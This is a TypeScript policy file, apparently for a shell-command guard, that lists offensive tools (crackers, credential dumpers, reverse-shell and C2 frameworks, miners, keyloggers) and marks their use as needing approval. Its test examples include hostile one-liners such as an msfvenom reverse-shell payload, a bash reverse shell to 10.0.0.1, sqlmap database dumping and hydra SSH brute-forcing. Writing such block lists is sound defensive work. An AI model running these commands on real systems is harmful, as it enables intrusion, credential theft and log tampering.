// Programs whose purpose is to break into machines, to crack passwords or to mine coins.
import type { EffectRule, ProgramSpec } from '../spec.ts';

const attacks = (why: string): readonly EffectRule[] => [
  { code: 'attack-tool', kind: 'escalate', why, safer: 'let the person run it, if they asked for it' },
];

/** A program that attacks with whatever arguments, except when asked for help or its version. */
const attackTool = (names: string, about: string, why: string, example: string): ProgramSpec => ({
  names,
  about,
  effects: attacks(why),
  examples: [
    { command: example, expect: 'ask' },
    { command: `${names.split(' ')[0]} --help`, expect: 'pass' },
    {
      command: `which ${names.split(' ')[0]}`,
      expect: 'pass',
      title: 'Only looks whether the program is installed',
    },
  ],
});

export const programs: readonly ProgramSpec[] = [
  attackTool(
    'stratus stratus-red-team pacu cloudfox scoutsuite-exploit peirates kubesploit',
    'Attacks accounts in the cloud, or clusters.',
    'Attacks accounts in the cloud, or clusters.',
    'stratus detonate aws.defense-evasion.cloudtrail-stop',
  ),
  attackTool(
    'timestomp logtamper wtmpclean',
    'Changes the traces of what was done on a machine.',
    'Changes the traces of what was done on this machine.',
    'timestomp -m 2020-01-01 /tmp/x',
  ),
  attackTool(
    'john hashcat unshadow ophcrack fcrackzip pdfcrack rarcrack aircrack-ng crunch',
    'Cracks passwords.',
    'Finds passwords from their hashes.',
    'john --wordlist=list.txt hashes.txt',
  ),
  attackTool(
    'logkeys keylogger xspy showkey xinput-log pykeylogger screenkey-log lkl',
    'Records what is typed.',
    'Records everything that is typed on this machine.',
    'logkeys --start',
  ),
  attackTool(
    'sqlmap commix xsser wpscan nikto beef-xss nosqlmap ghauri dalfox xsstrike tplmap joomscan droopescan nuclei wfuzz ffuf gobuster feroxbuster dirb dirbuster dirsearch ysoserial',
    'Attacks web sites.',
    'Attacks a web site or its database.',
    "sqlmap -u 'http://target.example/?id=1' --dump",
  ),
  attackTool(
    'xmrig xmr-stak minerd cpuminer cpuminer-opt ethminer nbminer lolminer t-rex phoenixminer cgminer bfgminer ccminer',
    'Mines coins.',
    'Mines coins with this machine.',
    'xmrig -o pool.example:3333 -u wallet',
  ),
  attackTool(
    'hydra ncrack patator crowbar kerbrute thc-hydra brutespray legba sshprank',
    'Tries passwords on a server.',
    'Tries passwords on a server until one works.',
    'hydra -l root -P list.txt ssh://10.0.0.5',
  ),
  attackTool(
    'ettercap bettercap arpspoof dsniff mitm6 responder responder.py impacket-smbserver smbserver.py impacket-ntlmrelayx ntlmrelayx.py sslstrip macof',
    'Reads or changes the traffic of other machines.',
    'Reads or changes the traffic of other machines in the network.',
    'arpspoof -t 10.0.0.5 10.0.0.1',
  ),
  attackTool(
    'airmon-ng airodump-ng aireplay-ng airbase-ng wifite reaver bully hcxdumptool mdk4 cowpatty wifiphisher fluxion',
    'Attacks wireless networks.',
    'Listens to wireless networks or breaks into them.',
    'airodump-ng wlan0mon',
  ),
  attackTool(
    'msfconsole msfvenom msfdb msfrpcd setoolkit evilginx evilginx2 gophish villain hoaxshell sliver-client sliver-server havoc empire merlin pupysh poshc2 koadic weevely',
    'A framework for attacks on other machines.',
    'Makes or runs attacks on other machines.',
    'msfvenom -p linux/x64/shell_reverse_tcp LHOST=10.0.0.1 -f elf',
  ),
  attackTool(
    'rcat rustcat pwncat pwncat-cs rpivot regeorg neoreg stowaway earthworm icmpsh pivotnacci regeorgsocksproxy.py neoreg.py',
    'Gives a shell to another machine, or waits for one.',
    'Gives a shell to another machine, or waits for one.',
    'rcat connect -s bash 10.0.0.1 9001',
  ),
  attackTool(
    'mimikatz mimipenguin mimikittenz keychaindump chainbreaker chainbreaker.py dploot sharpchrome hack-browser-data hackbrowserdata lazagne lazagne.py secretsdump.py impacket-secretsdump pypykatz gosecretsdump firepwd keyring-dump swiftbelt hekatomb donpapi',
    'Collects the passwords that programs have stored.',
    'Collects the passwords that programs of this machine have stored.',
    'lazagne all',
  ),
  attackTool(
    'masscan zmap rustscan naabu unicornscan zgrab2 hping3',
    'Scans networks.',
    'Scans networks for open ports, which their owners notice.',
    'masscan 10.0.0.0/8 -p22',
  ),
  {
    names: 'nmap',
    about: 'Finds open ports and what answers there.',
    syntax: { singleDash: true },
    options: {
      '-oN -oX -oG -oA -oS': 'writes',
      '-iL --excludefile --script-args-file --servicedb --versiondb': 'reads',
      '--script': 'loads',
      '-p -e -S -D -g --top-ports --exclude --script-args --min-rate --max-rate --max-retries --host-timeout --datadir --stylesheet --resume':
        'text',
      '-sS -sT -sU -sV -sC -sn -sL -sP -sA -sN -sF -sX -O -A -Pn -n -R -v -vv -d -F -f -6 -T0 -T1 -T2 -T3 -T4 -T5 --open --reason --traceroute --packet-trace':
        'flag',
    },
    operands: 'host',
    effects: [
      ...['*/*|*-254|*-255', '* */*'].map(
        (when): EffectRule => ({
          code: 'attack-tool',
          kind: 'escalate',
          when,
          unless: '-sn -sL -sP',
          why: 'Scans a whole network for open ports, which its owners notice.',
          safer: 'nmap -p PORT HOST',
        }),
      ),
      {
        code: 'attack-tool',
        kind: 'escalate',
        flags: '-iL --script=~exploit|~brute|~vuln|~dos|~intrusive|~malware|~fuzzer|all',
        why: 'Scans many machines, or tries attacks on them.',
        safer: 'nmap -p PORT HOST',
      },
    ],
    examples: [
      { command: 'nmap -p 8080 localhost', expect: 'pass' },
      { command: 'nmap -sV scanme.example.com', expect: 'pass' },
      {
        command: 'nmap -sn 192.168.1.0/24',
        expect: 'pass',
        title: 'Only lists which machines are in the network',
      },
      { command: 'nmap -sS -p- 10.0.0.0/24', expect: 'ask' },
      { command: 'nmap --script vuln 10.0.0.5', expect: 'ask' },
      { command: 'nmap -oG ~/.bashrc localhost', expect: 'ask' },
    ],
  },
  {
    names: 'cve-bin-tool cve-search cve-check-tool',
    about: 'Looks for known weaknesses in programs and their parts.',
    operands: 'reads',
    examples: [{ command: 'cve-bin-tool dist/app', expect: 'pass' }],
  },
  attackTool(
    'pwnkit dirtycow dirtyc0w dirtypipe dirty-pipe exploit exploit.sh exploit.py gtfonow kernelpop cve.*',
    'Programs that are named after a weakness, which they use.',
    'Uses a weakness of a program or of the machine.',
    './CVE-2021-4034',
  ),
  attackTool(
    'linpeas linpeas.sh linenum.sh deepce.sh lse.sh pspy pspy64 pspy32 linux-exploit-suggester.sh unix-privesc-check traitor beroot.py',
    'Looks for a way to become root.',
    'Looks for a way to become root on this machine.',
    'linpeas.sh -a',
  ),
  attackTool(
    'crackmapexec cme netexec nxc enum4linux enum4linux-ng smbmap bloodhound sharphound coercer petitpotam petitpotam.py ntlmrelayx evil-winrm psexec.py wmiexec.py smbexec.py bloodhound-python certipy rubeus getuserspns.py getnpusers.py',
    'Attacks the machines of a Windows network.',
    'Attacks the machines of a Windows network.',
    'netexec smb 10.0.0.0/24 -u admin -p pass',
  ),
];
